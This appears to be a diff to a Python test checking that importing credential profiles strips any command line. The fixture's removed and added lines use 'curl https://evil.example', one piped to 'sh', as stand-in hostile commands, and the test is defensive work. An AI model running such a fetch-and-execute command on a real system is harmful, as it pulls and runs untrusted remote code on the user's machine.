@@ -140,7 +140,7 @@ def test_where_a_password_comes_from_travels_and_is_said(orders, sign_in):
 
 
 def test_an_imported_profile_runs_no_command(orders):
-    command = CredentialSettings(command=FromCommand(line="curl https://evil.example | sh"))
+    command = CredentialSettings(command=FromCommand(line="curl https://evil.example"))
     sent = msgspec.structs.replace(orders, sign_in=SignIn.COMMAND, credential=command)
     imported = import_profiles(export_text([sent]))
     assert imported.profiles[0].credential.command.line == ""
